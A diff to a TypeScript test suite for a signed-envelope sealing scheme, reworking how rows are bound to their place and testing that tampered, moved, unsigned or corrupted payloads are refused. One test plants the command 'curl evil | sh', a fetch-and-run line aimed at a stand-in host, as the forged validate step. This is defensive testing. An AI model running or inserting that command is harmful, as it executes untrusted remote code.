@@ -63,6 +63,20 @@ function result(more: Partial<Payload<'result'>> = {}): Payload<'result'> {
   return { ...common, ...kind, ...row, ...hashes, ...work, ...rest, ...more };
 }
 
+/** The fields of a row that say what is in it. */
+const PLACES = {
+  run: ['repo', 'run', 'rev'],
+  offer: ['repo', 'run', 'lane', 'rev'],
+  result: ['repo', 'run', 'lane', 'rev', 'epoch', 'host'],
+  answer: ['repo', 'question'],
+  note: ['repo'],
+};
+type Place = Parameters<typeof openPayload>[0];
+const placeOf = (row: Place): Place => {
+  const fields = ['kind', ...PLACES[row.kind]];
+  return Object.fromEntries(Object.entries(row).filter(([it]) => fields.includes(it))) as Place;
+};
+
 function people() {
   const box = sandbox();
   const keys = { ada: sshKey(box, 'ada'), bob: sshKey(box, 'bob'), eve: sshKey(box, 'eve') };
@@ -77,13 +91,13 @@ function people() {
       sealPayload(it, { key, signer: 'kind' in by ? by : signer(by), scratch }),
     );
   const opens = (
-    place: Parameters<typeof openPayload>[0],
+    row: Parameters<typeof openPayload>[0],
     sealed: Buffer,
     more: { readonly from?: readonly string[]; readonly now?: Date } = {},
   ) =>
     withScratch(box.env, (scratch) =>
       orRefusal(() =>
-        openPayload(place, sealed, {
+        openPayload(placeOf(row), sealed, {
           key,
           signers: { kind: 'known', from: 'here', text: signers.join('') },
           from: more.from ?? ['ada@acme'],
@@ -113,13 +127,11 @@ const why = async (opened: ReturnType<People['opens']>) => {
 };
 
 /** Somebody who has the key of the team and none of a known signer, such as the owner of the database. */
-function rewritten(place: string, sealed: Buffer, change: (envelope: string) => string): Buffer {
-  const line = unseal(key, place, sealed);
+function rewritten(kind: string, sealed: Buffer, change: (envelope: string) => string): Buffer {
+  const line = unseal(key, kind, sealed);
   if (line === undefined) throw new Error('it does not open');
-  return seal(key, place, change(line));
+  return seal(key, kind, change(line));
 }
-const placeOf = ({ repo, run, lane, rev }: Payload<'offer'>) =>
-  ['offer', repo, run, lane, rev].join('|');
 const changed = (said: Payload, envelope: string): string =>
   JSON.stringify({
     ...JSON.parse(envelope),
@@ -133,7 +145,7 @@ test.each<[string, Attack, string]>([
     'with a changed command',
     async ({ seals, opens }, said) => {
       const evil = { ...said, spec: { ...said.spec, validate: 'curl evil | sh' } };
-      const sealed = rewritten(placeOf(said), await seals(said), (it) => changed(evil, it));
+      const sealed = rewritten(said.kind, await seals(said), (it) => changed(evil, it));
       return opens(said, sealed);
     },
     'its signature does not belong to what it says',
@@ -151,24 +163,11 @@ test.each<[string, Attack, string]>([
   [
     'for another lane',
     async ({ seals, opens }, said) => opens({ ...said, lane: randomUUID() }, await seals(said)),
-    'it has another key or place',
-  ],
-  [
-    'for another lane, sealed anew',
-    async ({ seals, opens }, said) => {
-      const other = { ...said, lane: randomUUID() };
-      const line = unseal(key, placeOf(said), await seals(said)) ?? '';
-      return opens(other, seal(key, placeOf(other), line));
-    },
     'it is for another lane',
   ],
   [
-    'of an earlier revision, sealed anew',
-    async ({ seals, opens }, said) => {
-      const later = { ...said, rev: 2 };
-      const line = unseal(key, placeOf(said), await seals(said)) ?? '';
-      return opens(later, seal(key, placeOf(later), line));
-    },
+    'of an earlier revision',
+    async ({ seals, opens }, said) => opens({ ...said, rev: 2 }, await seals(said)),
     'it is for another rev',
   ],
   [
@@ -180,7 +179,7 @@ test.each<[string, Attack, string]>([
   [
     'without its signature',
     async ({ seals, opens }, said) => {
-      const sealed = rewritten(placeOf(said), await seals(said), (it) =>
+      const sealed = rewritten(said.kind, await seals(said), (it) =>
         JSON.stringify({ ...JSON.parse(it), signatures: [] }),
       );
       return opens(said, sealed);
@@ -190,7 +189,7 @@ test.each<[string, Attack, string]>([
   [
     'that is evidence',
     async ({ seals, opens }, said) => {
-      const sealed = rewritten(placeOf(said), await seals(said), (it) =>
+      const sealed = rewritten(said.kind, await seals(said), (it) =>
         JSON.stringify({ ...JSON.parse(it), payloadType: 'application/vnd.in-toto+json' }),
       );
       return opens(said, sealed);
@@ -227,12 +226,7 @@ test.each([
   const sealed = await seals(said);
   const row = { ...said, [field]: value } as Payload<'result'>;
   expect(await why(opens(said, sealed))).toBe('counts');
-  expect(await why(opens(row, sealed))).toContain('another key or place');
-  // Also if somebody with the key of the team moves it.
-  const place = (it: Payload<'result'>) =>
-    ['result', it.repo, it.run, it.lane, it.rev, it.epoch, it.host].join('|');
-  const moved = seal(key, place(row), unseal(key, place(said), sealed) ?? '');
-  expect(await why(opens(row, moved))).toBe(`it is for another ${field}`);
+  expect(await why(opens(row, sealed))).toBe(`it is for another ${field}`);
 });
 
 test('F19: a result by a stranger, and an answer in the place of a result, do not count', async () => {
@@ -248,8 +242,8 @@ test('F20: exchanged rows and changed bytes do not open', async () => {
   const { seals, opens } = people();
   const [one, other] = [offer(), offer()];
   const [ofOne, ofOther] = [await seals(one), await seals(other)];
-  expect(await why(opens(one, ofOther))).toContain('another key or place');
-  expect(await why(opens(other, ofOne))).toContain('another key or place');
+  expect(await why(opens(one, ofOther))).toBe('it is for another lane');
+  expect(await why(opens(other, ofOne))).toBe('it is for another lane');
   for (const at of [0, 1, 13, 29, ofOne.length - 1]) {
     const bytes = Buffer.from(ofOne);
     bytes[at] = (bytes[at] ?? 0) ^ 1;
@@ -302,7 +296,7 @@ test('whatever stands in a place of the board is refused, not thrown', async () 
   const lines = fc.oneof(fc.json(), fc.string(), fc.uint8Array({ maxLength: 200 }).map(String));
   await fc.assert(
     fc.asyncProperty(lines, async (line) => {
-      const opened = await opens(said, seal(key, placeOf(said), line));
+      const opened = await opens(said, seal(key, said.kind, line));
       return opened instanceof RefusedError;
     }),
     { numRuns: 50 },
